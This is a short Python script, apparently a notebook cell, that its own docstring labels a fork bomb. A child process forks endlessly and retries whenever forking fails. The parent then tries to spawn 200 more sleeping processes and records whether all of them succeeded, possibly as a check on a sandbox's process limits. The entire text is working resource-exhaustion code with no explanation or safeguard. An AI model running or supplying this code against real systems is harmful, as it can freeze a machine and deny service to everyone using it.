"""A fork bomb: every process makes more of them."""

# %% first
import os
import time

if not os.fork():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
time.sleep(0.5)
won = False
try:
    for _ in range(200):
        if not os.fork():
            time.sleep(60)
    won = True
except OSError:
    pass
